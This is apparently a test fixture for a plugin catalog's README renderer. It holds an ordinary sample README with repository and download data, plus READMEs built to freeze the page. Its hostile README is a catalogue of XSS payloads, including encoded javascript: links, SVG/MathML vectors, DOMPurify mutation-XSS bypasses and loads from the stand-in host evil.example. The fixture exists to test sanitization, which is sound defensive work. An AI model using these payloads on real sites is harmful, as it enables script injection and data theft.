/**
 * What the plugin view's tests show, as facts of the test catalog's snapshot
 * (the API turns them into section 11's detail): an ordinary plugin (a README
 * with the usual Markdown, relative links and images, two repositories, 26
 * weeks of downloads, ten releases), and READMEs written to harm the page
 * (every classic script and exfiltration vector) or to freeze it (1 MB,
 * 10,000 levels deep).
 */
import type { Mirror, SnapshotPlugin } from "../../src/snapshot/schema.js";

/** Hosts a README may load images from in these tests; every other host must see no request. */
export const IMAGE_HOST = "img.example";
export const RAW_HOST = "raw.githubusercontent.com";
/** Where the hostile README sends what must never load or run. */
export const EVIL = "evil.example";

export const ORDINARY_README = `# Wind logger

Logs **wind speed** and *direction* from NMEA 2000 to [InfluxDB](https://www.influxdata.com/).

![Dashboard](docs/dashboard.png)

## Installation

1. Open the app store.
2. Search for \`wind logger\`.

\`\`\`js
const logger = require("wind-logger");
logger.start({ interval: 1000 });
\`\`\`

## Configuration

| option | default | meaning |
| --- | --- | --- |
| interval | 1000 | milliseconds between samples |
| path | environment.wind | the Signal K path |

See [the setup guide](docs/setup.md#network), the [changelog](/CHANGELOG.md), [usage](#installation)
and the [badge](https://${IMAGE_HOST}/badge.svg).

> Tip: pair it with the dashboard plugin.

- [ ] calibration
- [x] logging
`;

const DAY_MS = 86_400_000;

/**
 * The ordinary plugin's repositories, as the upstreams' answers leave them in the snapshot: the first on GitHub with
 * its default branch (where relative URLs of a README resolve), the second an archived GitLab one with what GitLab
 * did not say unknown.
 */
export function ordinaryMirrors(checkedAt: string): Mirror[] {
  return [
    {
      platform: "github",
      path: "jane-doe/wind-logger",
      url: "https://github.com/jane-doe/wind-logger",
      stars: 412,
      forks: 37,
      checkedAt,
      archived: false,
      openIssues: 12,
      pushedAt: "2025-02-20T10:11:12.000Z",
      defaultBranch: "main",
    },
    {
      platform: "gitlab",
      path: "sailors/tools/wind-logger",
      url: "https://gitlab.com/sailors/tools/wind-logger",
      stars: 9,
      forks: 1,
      checkedAt,
      archived: true,
      openIssues: 0,
      pushedAt: null,
      defaultBranch: null,
    },
  ];
}

/** The repository a README's relative URLs resolve against in the hostile tests (the ordinary plugin's first). */
export const readmeMirror = (checkedAt: string): Mirror[] => ordinaryMirrors(checkedAt).slice(0, 1);

/** The facts of section 11 a snapshot's record may carry, each present. */
export type Facts = { [K in "downloads" | "dependents" | "releases" | "engines" | "trust"]-?: NonNullable<SnapshotPlugin[K]> };

/** The ordinary plugin's version: its latest release. */
export const ORDINARY_VERSION = "2.3.1";

/** Section 11's facts for the ordinary plugin, as read by a build at `builtAt`: five of its releases in the last year. */
export function ordinaryFacts(builtAt: string): Facts {
  const built = Date.parse(builtAt);
  const versions = [ORDINARY_VERSION, "2.3.0", "2.2.0", "2.1.1", "2.1.0", "2.0.0", "1.4.0", "1.3.0", "1.2.0", "1.1.0"];
  const recent = versions.map((version, i) => ({ version, publishedAt: new Date(built - (12 + i * 70) * DAY_MS).toISOString() }));
  return {
    downloads: {
      lastWeek: 1_234,
      lastMonth: 5_678,
      weekly: Array.from({ length: 26 }, (_, i) => ({
        date: new Date(built - (25 - i) * 7 * DAY_MS).toISOString().slice(0, 10),
        count: 40 + ((i * 37) % 90) + i * 3,
      })),
    },
    dependents: 7,
    releases: {
      count: 14,
      recent,
      times: recent.map((release) => release.publishedAt).filter((time) => Date.parse(time) >= built - 365 * DAY_MS),
    },
    engines: { node: ">=18", host: ">=2.0.0 <4" },
    trust: { provenance: true, installScripts: false },
  };
}

/**
 * Every payload sets `window.pwned` or opens a dialog if it runs, or asks `evil.example` for something if it loads.
 * Known mutation-XSS strings (DOMPurify bypasses of past versions) included.
 */
const RUN = "window.pwned=(window.pwned||0)+1";
const PAYLOADS = [
  // Script and event handlers
  `<script>${RUN}</script>`,
  `<script src="https://${EVIL}/script.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://${IMAGE_HOST}/handler.png" onload="${RUN}">`,
  `<svg onload="${RUN}"><circle r="1"/></svg>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<div onmouseover="${RUN}" onclick="${RUN}">hover</div>`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">m</marquee>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<video><source onerror="${RUN}"></video>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  // javascript:, data:, vbscript: links in every disguise
  `<a href="javascript:${RUN}">js</a>`,
  `<a href="JaVaScRiPt:${RUN}">case</a>`,
  `<a href=" javascript:${RUN}">space</a>`,
  `<a href="java\tscript:${RUN}">tab</a>`,
  `<a href="java&#x09;script:${RUN}">tab entity</a>`,
  `<a href="java&#10;script:${RUN}">newline entity</a>`,
  `<a href="&#x6A;avascript:${RUN}">hex entity</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">decimal entities</a>`,
  `<a href="javascript&colon;${RUN}">named entity</a>`,
  `<a href="&#1;javascript:${RUN}">control character</a>`,
  `<a href="\u0001javascript:${RUN}">raw control</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="DATA:text/html,<script>${RUN}</script>">DATA</a>`,
  `<a href="vbscript:msgbox(1)">vbscript</a>`,
  `<a href="VBScript:msgbox(1)">VBScript</a>`,
  `[md js](javascript:${RUN.replace(/[()|]/g, "")})`,
  "[md case](JAVASCRIPT:alert`1`)",
  "[md entity](&#106;avascript:alert`1`)",
  "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[md vbscript](vbscript:msgbox)",
  "<javascript:alert`1`>",
  `<a href="https://ok.example/" target="_blank">target</a>`,
  `<a href="https://ok.example/" ping="https://${EVIL}/ping">ping</a>`,
  `<a href="https://ok.example/" download>download</a>`,
  `<area href="javascript:${RUN}">`,
  // SVG and MathML
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">svg link</text></a></svg>`,
  `<svg><image href="https://${EVIL}/svg-image.png"/></svg>`,
  `<svg><use href="https://${EVIL}/use.svg#x"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><iframe src="https://${EVIL}/fo"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">math</maction></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  // Frames, objects, forms, base, meta
  `<iframe src="https://${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<frameset><frame src="https://${EVIL}/frame2"></frameset>`,
  `<object data="https://${EVIL}/object"></object>`,
  `<object type="text/html" data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="https://${EVIL}/embed">`,
  `<form action="https://${EVIL}/form"><input type="image" src="https://${EVIL}/input.png"><button formaction="https://${EVIL}/b">go</button></form>`,
  `<base href="https://${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh">`,
  // Styles that load
  `<link rel="stylesheet" href="https://${EVIL}/link.css">`,
  `<style>@import url("https://${EVIL}/import.css"); body { background: url("https://${EVIL}/style.png") }</style>`,
  `<div style="background-image: url('https://${EVIL}/inline.png')">styled</div>`,
  `<table background="https://${EVIL}/table.png"><tr><td background="https://${EVIL}/td.png">cell</td></tr></table>`,
  // Images that must not load
  `<img srcset="https://${EVIL}/srcset.png 1x, https://${EVIL}/srcset2.png 2x">`,
  `<img src="https://${IMAGE_HOST}/ok-srcset.png" srcset="https://${EVIL}/srcset3.png 2x">`,
  `<picture><source srcset="https://${EVIL}/picture.png"><img src="https://${IMAGE_HOST}/picture-fallback.png"></picture>`,
  `<video poster="https://${EVIL}/poster.png"></video>`,
  `<img src="http://${EVIL}/http.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `![md http](http://${EVIL}/md-http.png)`,
  "![md data](data:image/png;base64,iVBORw0KGgo=)",
  // Mutation XSS (DOMPurify bypasses of earlier versions)
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></h1>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<svg><p><style><img src=x onerror=${RUN}></style></p></svg>`,
  // Clobbering and spoofing
  `<img name="getElementById"><form id="filters"></form><a id="cards" name="cookie">clobber</a>`,
  `<div class="problem skip" role="alert" accesskey="q" tabindex="1" contenteditable>spoof</div>`,
];

/**
 * Allowed on purpose: the README's only requests go to these images. A protocol-relative URL keeps the page's scheme,
 * which for a README's image is always https.
 */
const ALLOWED_IMAGES = [
  `![ok](https://${IMAGE_HOST}/ok.png)`,
  "![relative](docs/logo.png)",
  `<img src="//${IMAGE_HOST}/protocol-relative.png">`,
];

export const HOSTILE_README = ["# Hostile README", "", ...ALLOWED_IMAGES, "", ...PAYLOADS.map((payload) => `${payload}\n`)].join("\n");

/** The images the hostile README may load (relative ones from the first repository's raw files). */
export const HOSTILE_ALLOWED_REQUESTS = [
  `https://${IMAGE_HOST}/ok.png`,
  `https://${IMAGE_HOST}/handler.png`,
  `https://${IMAGE_HOST}/ok-srcset.png`,
  `https://${IMAGE_HOST}/picture-fallback.png`,
  `https://${IMAGE_HOST}/protocol-relative.png`,
  `https://${RAW_HOST}/jane-doe/wind-logger/main/docs/logo.png`,
];

/** READMEs too large or too deep to render whole, and whether the page must cut them. */
export const HEAVY_READMES: Readonly<Record<string, { readonly readme: string; readonly cut: boolean }>> = {
  "1 MB of ordinary Markdown": { readme: ORDINARY_README.repeat(Math.ceil(1_048_576 / ORDINARY_README.length)), cut: true },
  "10,000 nested quotes": { readme: `${"> ".repeat(10_000)}deep`, cut: true },
  "10,000 nested list items": { readme: `${"- ".repeat(10_000)}deep`, cut: true },
  "1,000 list items, each indented one level deeper": {
    readme: Array.from({ length: 1_000 }, (_, i) => `${"  ".repeat(i)}- level ${i}`).join("\n"),
    cut: true,
  },
  "10,000 nested emphasis markers": { readme: `${"*".repeat(10_000)}deep${"*".repeat(10_000)}`, cut: true },
  // The browser's HTML parser stops nesting at 512 levels by itself; only the length is cut.
  "10,000 nested HTML elements": { readme: `${"<div>".repeat(10_000)}deep${"</div>".repeat(10_000)}`, cut: true },
  // Brackets nest nothing in Markdown: the text is shown whole.
  "10,000 nested links": { readme: `${"[".repeat(10_000)}deep${"](x)".repeat(10_000)}`, cut: false },
};
